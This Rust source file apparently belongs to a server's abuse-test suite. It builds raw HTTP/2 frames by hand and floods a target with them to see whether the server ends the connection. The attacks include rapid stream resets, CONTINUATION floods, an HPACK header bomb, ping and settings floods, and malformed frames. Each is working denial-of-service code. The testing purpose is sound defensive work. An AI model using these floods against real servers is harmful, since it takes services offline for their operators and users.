//! Floods of HTTP/2 frames, written by hand (RFC 9113): a client library would not send them.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;

use crate::abuse::attack_target::AttackTarget;
use crate::abuse::seen::Seen;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// `:method POST`, `:scheme http`, `:path /` of the static table (RFC 7541 appendix A).
const REQUEST: [u8; 3] = [0x83, 0x86, 0x84];
/// Longest time until the server ends a connection after a violation.
const PATIENCE: Duration = Duration::from_secs(20);
/// Longest time of answers that are not read: twice the server's default.
const UNREAD_PATIENCE: Duration = Duration::from_secs(60);
/// Streams that the server allows at a time.
const STREAMS: u32 = 100;
/// Frames in one write.
const FRAMES_A_WRITE: u32 = 100;
const CONNECTIONS: usize = 4;
/// Largest frame that may be sent before the server allows more (RFC 9113 section 4.2).
const FRAME_BYTES: usize = 16_384;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// The stream with a number: clients open odd ones.
fn stream(number: u32) -> u32 {
    number * 2 + 1
}

fn open(number: u32, flags: u8) -> Vec<u8> {
    frame(HEADERS, flags | END_HEADERS, stream(number), &REQUEST)
}

/// Streams that are reset as soon as they are opened.
pub(crate) async fn rapid_reset(target: AttackTarget) -> Seen {
    flood(target, Vec::new(), |number| {
        [open(number, END_STREAM), frame(RST_STREAM, 0, stream(number), &CANCEL)].concat()
    })
    .await
}

/// Streams that are opened and never used.
pub(crate) async fn open_streams(target: AttackTarget) -> Seen {
    flood(target, Vec::new(), |number| open(number, 0)).await
}

/// Streams that the server must reset: requests without a path (RFC 9113 section 8.1.1).
pub(crate) async fn made_to_reset(target: AttackTarget) -> Seen {
    let pathless = REQUEST.get(..2).unwrap_or_default();
    flood(target, Vec::new(), |number| frame(HEADERS, END_STREAM | END_HEADERS, stream(number), pathless))
        .await
}

/// Window updates of zero (RFC 9113 section 6.9).
pub(crate) async fn empty_windows(target: AttackTarget) -> Seen {
    flood(target, Vec::new(), |number| {
        [open(number, 0), frame(WINDOW_UPDATE, 0, stream(number), &[0; 4])].concat()
    })
    .await
}

/// Settings that change, and must each be acknowledged.
pub(crate) async fn settings(target: AttackTarget) -> Seen {
    bear(target, |number| {
        let window = (number & 0xffff).to_be_bytes();
        frame(SETTINGS, 0, 0, &[&[0, 4], window.as_slice()].concat())
    })
    .await
}

/// Pings, which must each be answered.
pub(crate) async fn pings(target: AttackTarget) -> Seen {
    bear(target, |number| frame(PING, 0, 0, &[number.to_be_bytes(), [0; 4]].concat())).await
}

/// Window updates of the connection by a byte, up to the maximum.
pub(crate) async fn windows(target: AttackTarget) -> Seen {
    flood(target, Vec::new(), |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await
}

/// A stream that is reset long after its answer, repeatedly.
pub(crate) async fn late_resets(target: AttackTarget) -> Seen {
    flood(target, open(0, END_STREAM), |_| frame(RST_STREAM, 0, stream(0), &CANCEL)).await
}

/// The maximum number of concurrent answers, of which no byte may be sent: the window of their
/// streams is closed.
pub(crate) async fn answers_unread(target: AttackTarget) -> Seen {
    let path = b"/api/v1/openapi.json";
    // `:method GET`, `:scheme http`, and a `:path` that is not indexed (RFC 7541 section 6.2.2).
    let request = [&[0x82, 0x86, 0x04, path.len() as u8], path.as_slice()].concat();
    let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let requests =
        (0..STREAMS).flat_map(|number| frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &request));
    let bytes: Vec<u8> = PREFACE.iter().copied().chain(settings).chain(requests).collect();
    let times = target.many(200, 20);
    let attack = move |stream| play(stream, bytes.clone(), UNREAD_PATIENCE, |_| Vec::new());
    target.on_connections(times, times, attack).await
}

/// An endless head.
pub(crate) async fn continuations(target: AttackTarget) -> Seen {
    let first = frame(HEADERS, 0, 1, &REQUEST);
    // A literal that is not indexed: `x: yyy…`, as long as a frame may be.
    let value = vec![b'y'; 126];
    let literal = [&[0, 1, b'x', 126], value.as_slice()].concat();
    let more = frame(CONTINUATION, 0, 1, &literal.repeat(FRAME_BYTES / literal.len()));
    flood(target, first, move |_| more.clone()).await
}

/// A header of four kilobytes, sent once and then referenced by its index in the table, ten thousand times.
pub(crate) async fn header_bomb(target: AttackTarget) -> Seen {
    // Indexed in the table (RFC 7541 section 6.2.1); its length is 3,900 in seven bits and the rest.
    let value = vec![b'y'; 3_900];
    let kept = [&[0x40, 1, b'x', 0x7f, 0xbd, 0x1d], value.as_slice()].concat();
    let block = [&REQUEST, kept.as_slice(), &[0xbe].repeat(10_000)].concat();
    flood(target, Vec::new(), move |number| frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &block))
        .await
}

/// Empty pieces of a body.
pub(crate) async fn empty_data(target: AttackTarget) -> Seen {
    flood(target, open(0, 0), |_| frame(DATA, 0, 1, &[])).await
}

/// More of a body than the window allows.
pub(crate) async fn beyond_the_window(target: AttackTarget) -> Seen {
    let piece = frame(DATA, 0, 1, &[0; FRAME_BYTES]);
    flood(target, open(0, 0), move |_| piece.clone()).await
}

/// Frames that break the protocol, one on each connection.
pub(crate) async fn broken_frames(target: AttackTarget) -> Seen {
    let mut seen = Seen::default();
    for broken in [
        frame(HEADERS, END_HEADERS, 0, &REQUEST),
        frame(HEADERS, END_HEADERS, 2, &REQUEST),
        frame(DATA, 0, 0, b"x"),
        frame(DATA, 0, 99, b"x"),
        frame(SETTINGS, 0, 0, &[0; 5]),
        frame(SETTINGS, 0, 1, &[]),
        frame(PING, 0, 0, &[0; 7]),
        frame(CONTINUATION, END_HEADERS, 1, &REQUEST),
        frame(DATA, 0, 1, &vec![0; FRAME_BYTES * 64]),
        frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]).repeat(2),
        // An unused index.
        frame(HEADERS, END_HEADERS, 1, &[0xff, 0xff, 0xff, 0xff, 0x0f]),
    ] {
        let bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &broken].concat();
        let attack = move |stream| play(stream, bytes.clone(), PATIENCE, |_| Vec::new());
        seen.add_all(target.on_connections(1, 1, attack).await);
    }
    seen
}

/// The same frames repeatedly, on some connections, until the server ends them.
async fn flood(target: AttackTarget, first: Vec<u8>, frames: impl Frames) -> Seen {
    on_some_connections(target, first, PATIENCE, frames).await
}

/// Allowed frames, for a while.
async fn bear(target: AttackTarget, frames: impl Frames) -> Seen {
    let a_while = target.flood();
    on_some_connections(target, Vec::new(), a_while, frames).await
}

/// Builds the frames of a number.
trait Frames: Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static {}

impl<F: Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static> Frames for F {}

async fn on_some_connections(
    target: AttackTarget,
    first: Vec<u8>,
    within: Duration,
    frames: impl Frames,
) -> Seen {
    let bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &first].concat();
    let attack = move |stream| play(stream, bytes.clone(), within, frames.clone());
    target.on_connections(CONNECTIONS, CONNECTIONS, attack).await
}

/// Sends the connection preface, then frames repeatedly until the server ends it, or for a
/// time; returns the way it ended.
async fn play(stream: TcpStream, begin: Vec<u8>, within: Duration, frames: impl Frames) -> String {
    let (reading, mut writing) = stream.into_split();
    let writing = async {
        let mut number = 0;
        let mut outcome = writing.write_all(&begin).await;
        while outcome.is_ok() {
            let next = number + FRAMES_A_WRITE;
            // Joined into one buffer: byte by byte takes so long that the well-behaved client waits.
            let bytes = (number..next).map(&frames).collect::<Vec<_>>().concat();
            if bytes.is_empty() {
                break;
            }
            number = next;
            outcome = writing.write_all(&bytes).await;
        }
        // The server's answer to it counts, or its silence.
        std::future::pending::<()>().await;
    };
    tokio::select! {
        ended = end_of(reading) => ended,
        () = writing => "bore it".to_owned(),
        () = tokio::time::sleep(within) => "bore it".to_owned(),
    }
}

/// Reads frames until the connection ends, or the server announces its end.
async fn end_of(mut reading: OwnedReadHalf) -> String {
    let mut head = [0; 9];
    while reading.read_exact(&mut head).await.is_ok() {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0; length];
        if reading.read_exact(&mut payload).await.is_err() {
            break;
        }
        if head[3] == GOAWAY {
            let code = payload.get(4..8).and_then(|code| code.try_into().ok()).map_or(0, u32::from_be_bytes);
            return format!("GOAWAY {}", name(code));
        }
    }
    "closed".to_owned()
}

/// Name of an error code (RFC 9113 section 7).
fn name(code: u32) -> &'static str {
    match code {
        0 => "NO_ERROR",
        1 => "PROTOCOL_ERROR",
        3 => "FLOW_CONTROL_ERROR",
        6 => "FRAME_SIZE_ERROR",
        9 => "COMPRESSION_ERROR",
        11 => "ENHANCE_YOUR_CALM",
        _ => "of another kind",
    }
}
